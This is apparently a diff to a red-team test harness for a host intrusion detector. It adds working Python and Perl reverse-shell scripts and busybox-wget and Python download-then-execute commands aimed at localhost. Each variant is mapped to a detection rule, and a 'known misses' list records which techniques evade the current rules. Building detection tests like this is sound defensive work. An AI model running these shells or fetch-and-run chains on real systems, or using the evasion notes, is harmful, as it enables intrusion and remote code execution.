@@ -198,6 +198,20 @@ def rs_fifo_nc_script(c: Ctx) -> None:
              f"{c.port} >{f}\nrm -f {f}\n")
 
 
+def rs_python_pty_script(c: Ctx) -> None:
+    # dup2 onto 0-2, then pty.spawn: the shell itself sits on a pty, not on the socket
+    c.script("rs7.py", "import os,pty,socket\n"
+             f"s=socket.create_connection(('127.0.0.1',{c.port}))\n"
+             "[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn('/bin/sh')\n", PY)
+
+
+def rs_perl_script(c: Ctx) -> None:
+    c.script("rs8.pl", "use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));"
+             f"connect(S,sockaddr_in({c.port},inet_aton('127.0.0.1')));"
+             "open(STDIN,'>&S');open(STDOUT,'>&S');open(STDERR,'>&S');"
+             "exec('/bin/sh','-i');\n", "/usr/bin/perl")
+
+
 def rs_busybox_nc_e(c: Ctx) -> None:
     c.run(["busybox", "nc", "127.0.0.1", str(c.port), "-e", "/bin/sh"])
 
@@ -609,6 +623,31 @@ def dl_python_urllib_exec(c: Ctx) -> None:
         f"subprocess.run(['sh','-c',u.urlopen('{c.url()}').read().decode()])", c)
 
 
+def dl_busybox_wget_exec(c: Ctx) -> None:
+    # busybox's wget applet into a work subdirectory of /tmp, then run
+    d = c.scratch / "dl2"
+    d.mkdir()
+    c.bash(f"busybox wget -q -O {d}/upd {c.url()} && chmod +x {d}/upd && {d}/upd")
+    shutil.rmtree(d)
+
+
+def dl_python_urlretrieve_exec(c: Ctx) -> None:
+    # no download tool: python fetches into a work subdirectory, the file is then run
+    d = c.scratch / "dl3"
+    d.mkdir()
+    _py(f"import urllib.request as u,os,subprocess;u.urlretrieve('{c.url()}','{d}/upd');"
+        f"os.chmod('{d}/upd',0o755);subprocess.run(['{d}/upd'])", c)
+    shutil.rmtree(d)
+
+
+def dl_python_urlretrieve_script(c: Ctx) -> None:
+    d = c.scratch / "dl4"
+    d.mkdir()
+    c.script("dl.py", f"import urllib.request as u,os,subprocess\nu.urlretrieve('{c.url()}',"
+             f"'{d}/upd')\nos.chmod('{d}/upd',0o755)\nsubprocess.run(['{d}/upd'])\n", PY)
+    shutil.rmtree(d)
+
+
 def dl_curl_exec_shm(c: Ctx) -> None:
     p = f"/dev/shm/.u{os.getpid()}"
     c.bash(f"curl -so {p} {c.url()} && chmod +x {p} && {p}; rm -f {p}")
@@ -811,6 +850,8 @@ VARIANTS: dict[str, Variant] = {
     "rs_awk_inet": _v(rs_awk_inet, "reverse_shell_command_line"),
     "rs_openssl_script": _v(rs_openssl_script, "reverse_shell_fifo", "reverse_shell_fifo_stdin"),
     "rs_fifo_nc_script": _v(rs_fifo_nc_script, "reverse_shell_fifo"),
+    "rs_python_pty_script": _v(rs_python_pty_script, "reverse_shell_socket_relay"),
+    "rs_perl_script": _v(rs_perl_script, "reverse_shell_sequence", "reverse_shell_socket_stdio"),
     "rs_renamed_shell_fd0": _v(rs_renamed_shell_fd0,
                                "reverse_shell_socket_stdio", "exec_from_tmp_shm"),
     "inj_ptrace_poke_py": _v(inj_ptrace_poke_py, "ptrace_attach", "ptrace_poke"),
@@ -856,6 +897,8 @@ VARIANTS: dict[str, Variant] = {
     "dl_curl_pipe_sh": _v(dl_curl_pipe_sh, "download_pipe_shell"),
     "dl_wget_pipe_bash_script": _v(dl_wget_pipe_bash_script, "download_pipe_shell"),
     "dl_python_urllib_exec": _v(dl_python_urllib_exec, "interpreter_download_exec"),
+    "dl_busybox_wget_exec": _v(dl_busybox_wget_exec, "download_then_execute"),
+    "dl_python_urlretrieve_exec": _v(dl_python_urlretrieve_exec, "interpreter_download_exec"),
     "dl_curl_exec_shm": _v(dl_curl_exec_shm, "download_then_execute", "exec_from_tmp_shm"),
     # benign
     "bn_git_clone": _v(bn_git_clone),
@@ -885,10 +928,12 @@ VARIANTS: dict[str, Variant] = {
 
 #: variants no rule catches yet (docs/detection.md, "Tested variants"): node connects
 #: itself and hands the shell socketpairs, so no process has an inet socket or a fifo on
-#: 0-2 and no command line shows the technique. Run them with ``redteam.py --ctx CTX
-#: --log LOG rs_node_script`` to see; not asserted by the tests.
+#: 0-2 and no command line shows the technique; python fetches and writes the payload
+#: itself (no download tool) into a subdirectory. Run them with ``redteam.py --ctx CTX
+#: --log LOG rs_node_script dl_python_urlretrieve_script`` to see; not asserted by the tests.
 KNOWN_MISSES: dict[str, Variant] = {
     "rs_node_script": _v(rs_node_script),
+    "dl_python_urlretrieve_script": _v(dl_python_urlretrieve_script),
 }
 
 
